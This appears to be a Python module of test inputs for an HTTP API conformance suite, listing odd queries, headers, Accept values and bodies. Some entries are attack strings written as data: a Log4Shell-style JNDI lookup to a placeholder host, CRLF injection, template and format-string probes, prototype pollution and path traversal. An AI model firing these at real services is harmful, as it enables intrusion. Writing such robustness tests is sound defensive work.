"""What is odd beside the id: queries, headers, Accept, bodies; the id is then a UUID that no pairing has."""

from __future__ import annotations

from typing import TYPE_CHECKING

from conformance.plan.proposals.texts import INJECTED

if TYPE_CHECKING:
    from conformance.model.http import Headers

QUERIES: tuple[tuple[str, ...], ...] = (
    ("force=true", "force=", "cascade=true&recursive=true&purge=true"),
    ("_method=GET", "_method=PUT"),
    ("pairing_id=x&pairing_id=y", "x=y&x=y", "x=1&y=2&x=3"),
    ("pairing_id=x", "pairing_id[]=x&pairing_id[0]=y&pairing_id[a][b]=z"),
    ("limit=-5&offset=99999999999999999999", "filter=x'%22%3C&sort_by=;", "callback=x&format=xml&_format=yaml"),
    ("a=%00",),
    (f"a=%0d%0a{INJECTED.replace(' ', '%20')}",),
    ("a=%FF%C0%AF", "a=%zz&b=x%", "a=%E2%82%AC%F0%9F%98%80"),
    ("&&&==&=x&y", "?a?b?", "x", "", "a=b;c=d"),
    ("a=../../x", "__proto__[x]=y&constructor=z"),
    ("a=\xe4\xff", 'a="<>{}|^`\\'),
    ("x=" + "y" * 1000, "x=" + "y" * 4000),
    ("&".join(f"x{number}=y" for number in range(500)), "&".join(["x=y"] * 200)),
)
"""Queries by class: flags, methods, the parameter's own name, other parameters, octets, syntax, size."""

HEADERS: tuple[tuple[Headers, ...], ...] = (
    (
        (("X-Forwarded-For", "127.0.0.1"),),
        (("X-Forwarded-For", "x, 999.999.999.999, [::1]:99999, unknown"), ("X-Forwarded-Port", "-1")),
        (("X-Forwarded-For", "192.0.2.1"), ("X-Forwarded-For", "192.0.2.2")),
    ),
    (
        (("X-Forwarded-Host", "x.invalid"),),
        (("Forwarded", 'for="_x";host=x.invalid;proto=,for='),),
        (("Via", "1.1 x, 9.9 y"),),
    ),
    ((("If-Match", "*"),), (("If-Match", '"x"'), ("If-None-Match", "*"))),
    ((("If-Modified-Since", "Thu, 99 Foo 99999 99:99:99 GMT"),), (("If-Unmodified-Since", "x"),)),
    ((("Range", "bytes=0-0"),), (("Range", "bytes=99-1,-,x"),)),
    ((("Content-Type", "application/json"),), (("Content-Type", "x/y; charset=\"'"),)),
    ((("Content-Encoding", "x"),), (("Content-Language", "x"), ("Content-Location", "http://x.invalid/"))),
    ((("Prefer", "respond-async, wait=99999999999999999999"),), (("X-HTTP-Method-Override", "GET"),)),
    ((("Origin", "http://x.invalid"),), (("Referer", "x:\\\\'\"<>"),)),
    ((("Cookie", 'a=b; =; ;; $x="y; JSESSIONID=x'),), (("Cookie", "a=b"), ("Cookie", "a=c"))),
    (
        (("Accept-Language", "xx-XX-x-x;q=9, *;q=-1, \xe4"),),
        (("Accept-Encoding", "x, *;q=x"),),
        (("Accept-Charset", "utf-7, x;q=0"),),
    ),
    ((("X-Request-Id", "x" * 200), ("traceparent", "00-x-y-zz"), ("X-B3-TraceId", "'\"")),),
    (
        (("X-Request-Id", f"x%0d%0a{INJECTED}"),),
        (("X-Request-Id", f"x\xe5\x98\x8d\xe5\x98\x8a{INJECTED}"),),
    ),
    ((("User-Agent", ""),), (("User-Agent", "${jndi:ldap://x.invalid/x} {{7*7}} %s%n"),)),
    ((("X-Odd", "'\"<>{}[]\\^`|"),), (("X-Odd", "\t x \t y \t"),)),
    ((("X-Odd", "\xff\xfe\x80"),), (("X-Odd", "\xf0\x9f\x98\x80 \xe2\x82\xac"),)),
    ((("X-Odd", ""), ("X-Odd", ""), ("x-odd", "z")),),
    ((("X_Odd", "x"), ("X.Odd!#$%&'*+^`|~", "y")),),
    ((("X-Long", "x" * 1024),),),
    ((("X-Long", "x" * 4096),),),
    ((("X-Long", "x" * 8192),),),
    ((("X-" + "Long" * 64, "x"),), tuple((f"X-Many-{number}", "x") for number in range(50))),
)
"""Headers by class: forwarding, conditions, ranges, content, preferences, origin, cookies, tracing, octets, size."""

ACCEPTS: tuple[tuple[str, ...], ...] = (
    ("", "x"),
    ("*/*", "image/*"),
    ("text/html", "application/xml;q=0.9, text/plain", "application/problem+json"),
    ("application/json;q=0", "application/json;q=9999999999, */*;q=-1"),
    ("application/json;version=99;charset=utf-7",),
    (";;;,,,q=", "*/json, /, x/y/z", "application/vnd.x\xe4+json"),
    (", ".join(f"x/y{number}" for number in range(200)),),
)

_JSON = "application/json"
_DEEP = 2000
BODIES: tuple[tuple[tuple[str, bytes], ...], ...] = (
    ((_JSON, b"{}"), (_JSON, b"null"), (_JSON, b'{"force": true}')),
    ((_JSON, b'{"x": '), (_JSON, b'{"x": NaN, "x": 1e999}')),
    ((_JSON, b"[" * _DEEP + b"]" * _DEEP),),
    ((_JSON, b'{"x": "\xff\xfe\x00"}'), (_JSON, b'\xef\xbb\xbf{"x": "\\ud800"}')),
    ((_JSON, b'{"x": "' + b"y" * 65_527 + b'"}'),),
    (("application/x-www-form-urlencoded", b"_method=GET&x=%zz"), ("multipart/form-data", b"--x\r\n\r\n")),
    (("application/xml", b'<?xml version="1.0"?><x/>'), ("text/plain", b"x")),
    (("application/octet-stream", bytes(range(256))), ("", b"x"), ("x", b"{}")),
)
"""Bodies by class, each with its media type (empty for none): JSON whole, cut, deep, ill encoded, large; others."""
